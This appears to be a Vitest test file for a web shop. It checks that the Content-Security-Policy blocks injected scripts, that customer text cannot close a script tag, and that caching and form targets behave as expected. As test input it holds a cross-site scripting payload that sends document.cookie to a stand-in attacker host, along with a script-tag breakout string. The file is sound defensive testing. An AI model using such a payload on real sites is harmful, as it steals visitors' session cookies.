/** The Content-Security-Policy of documents: it allows the site's own code and the origins from the settings. */
import { createHash } from 'node:crypto'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import type { ServerBuild } from 'react-router'
import { afterAll, beforeAll, expect, onTestFinished, test, vi } from 'vitest'
import { openShop, type TestShop } from '#test/shop.ts'
import { ensureBuilt } from '#test/torture/running-shop.ts'
import { sendRequest, listen } from '#test/wire.ts'
import { MINUTE } from '../time/clock.ts'
import type { Pages } from './pages.ts'

const BUILT = join(import.meta.dirname, '../../build/site/server/index.js')
const INJECTED = 'fetch("https://evil.example/" + document.cookie)'

type Render = (...given: never[]) => Promise<Response>

const built = async () => (await import(pathToFileURL(BUILT).href)) as ServerBuild

/** The real site with a simulated vulnerability: every document contains a user's text as HTML. */
async function vulnerableSite(): Promise<ServerBuild> {
  const build = await built()
  const { default: render, ...more } = build.entry.module as unknown as { default: Render }
  const withInjection: Render = async (...given) => {
    const answer = await render(...given)
    const html = (await answer.text()).replace('</main>', `<script>${INJECTED}</script></main>`)
    return new Response(html, answer)
  }
  return { ...build, entry: { module: { ...more, default: withInjection } } } as unknown as ServerBuild
}

const pagesOf = (build: ServerBuild): Pages => ({
  build: async () => build,
  assets: null,
  files: null,
  mode: 'production',
})

const hashOf = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`

let shop: TestShop
beforeAll(async () => {
  ensureBuilt()
  shop = await openShop({ pages: pagesOf(await vulnerableSite()) })
}, 300_000)
afterAll(() => shop.close())

/** The real site; each document ends with the number of its rendering. */
async function siteThatCounts(): Promise<ServerBuild> {
  const build = await built()
  const { default: render, ...more } = build.entry.module as unknown as { default: Render }
  let renderings = 0
  const counting: Render = async (...given) => {
    const answer = await render(...given)
    return new Response(`${await answer.text()}<!-- rendering ${++renderings} -->`, answer)
  }
  return { ...build, entry: { module: { ...more, default: counting } } } as unknown as ServerBuild
}

test('the policy of a document does not allow a script that was injected with a user’s text', async () => {
  const { text, headers } = await shop.visitor().get('/about')
  const policy = String(headers['content-security-policy'])
  expect(text).toContain(`<script>${INJECTED}</script>`)
  expect(policy).not.toContain(hashOf(INJECTED))
  // The site's own scripts, such as the data block, are still allowed.
  const data = /<script>(window\.__reactRouterContext = [\s\S]*?)<\/script>/.exec(text)?.[1] ?? ''
  expect(policy).toContain(hashOf(data))
})

test('the data of a page is a script that the policy allows, and a customer’s text cannot end it', async () => {
  const name = `</script><script>${INJECTED}</script>`
  const id = await shop.sell({ name })
  const { text, headers } = await shop.visitor().get(`/product/${id}`)
  expect(text).not.toContain(name)
  const script = /<script>(window\.__reactRouterContext\.streamController\.enqueue[\s\S]*?)<\/script>/.exec(
    text,
  )?.[1]
  expect(script).toContain('evil.example')
  expect(String(headers['content-security-policy'])).toContain(hashOf(script!))
})

test('a page contains of its data only what the contract names', async () => {
  const id = await shop.sell({ name: 'Contract Beans' })
  const { body } = await shop.visitor().get(`/api/products/${id}`)
  const { text } = await shop.visitor().get(`/product/${id}?other`)
  expect(text).toContain('Contract Beans')
  for (const field of ['search_text', 'hidden_at', 'is_draft', 'password_hash'])
    expect(text).not.toContain(field)
  expect(text).toContain(Object.keys(body as object)[0])
})

test.each([
  ['/product/nobody-has-it', 404],
  [`/search/${'a'.repeat(2000)}`, 400],
])('%s has the status of the refused call', async (path, status) => {
  const [page, data] = await Promise.all([
    shop.visitor().get(path),
    shop
      .visitor()
      .get(path.replace('/product/', '/api/products/').replace('/search/', '/api/products?keyword=')),
  ])
  expect([page.status, data.status]).toEqual([status, status])
})

/** Where the forms of the two pages are sent, and which origins their policies allow for that. */
async function formsOf(of: TestShop) {
  const found = await Promise.all(
    ['/', '/wholesale'].map(async (path) => {
      const { text, headers } = await of.visitor().get(path)
      const rule = (name: string) =>
        new RegExp(`${name} ([^;]*)`).exec(String(headers['content-security-policy']))?.[1]
      const action = /<form[^>]* action="([^"]*send)"/.exec(text)?.[1]
      return { action, mayCall: rule('connect-src'), maySend: rule('form-action') }
    }),
  )
  return found
}

test('the contact form and the wholesale form are sent to this shop', async () => {
  expect(await formsOf(shop)).toEqual([
    { action: '/send', mayCall: "'self'", maySend: "'self'" },
    { action: '/wholesale/send', mayCall: "'self'", maySend: "'self'" },
  ])
})

test('with MAIL_SERVICE_BASE the forms are sent to that address, with JavaScript and without', async () => {
  const other = await openShop({
    env: { MAIL_SERVICE_BASE: 'https://mail.example/frame/' },
    pages: pagesOf(await built()),
  })
  const rules = { mayCall: "'self' https://mail.example", maySend: "'self' https://mail.example" }
  expect(await formsOf(other)).toEqual([
    { action: 'https://mail.example/frame/send', ...rules },
    { action: 'https://mail.example/frame/wholesale/send', ...rules },
  ])
  // Read by the scripts of the page.
  expect((await other.visitor().get('/')).text).toContain('https://mail.example/frame\\"')
  await other.close()
})

test('a page whose data has no tags is cached for a minute and then rendered again', async () => {
  const counting = await openShop({ pages: pagesOf(await siteThatCounts()) })
  const port = await listen(counting)
  // A whole number, so that the sums below are exact.
  let now = Math.ceil(performance.now())
  const clock = vi.spyOn(performance, 'now').mockImplementation(() => now)
  onTestFinished(async () => {
    clock.mockRestore()
    await counting.close()
  })
  const rendering = async (path: string) =>
    /<!-- rendering (\d+) -->/.exec((await sendRequest(port, path)).text)?.[1] ?? null
  // On PostgreSQL, where another instance may write, a page is cached for five seconds at most, and the cache is
  // emptied whenever the connection for messages of other instances opens. So only a SQLite shop is checked for a
  // cached copy.
  const isAlone = counting.shop.config.databaseUrl === null
  // One page without data, and one page with settings, whose contract names no tag.
  for (const path of ['/about', '/register']) {
    const first = await rendering(path)
    expect(first).not.toBeNull()
    now += MINUTE - 1000
    if (isAlone) expect(await rendering(path)).toBe(first)
    now += 1000
    const second = await rendering(path)
    expect(Number(second)).toBeGreaterThan(Number(first))
    now += 1000
    if (isAlone) expect(await rendering(path)).toBe(second)
  }
})
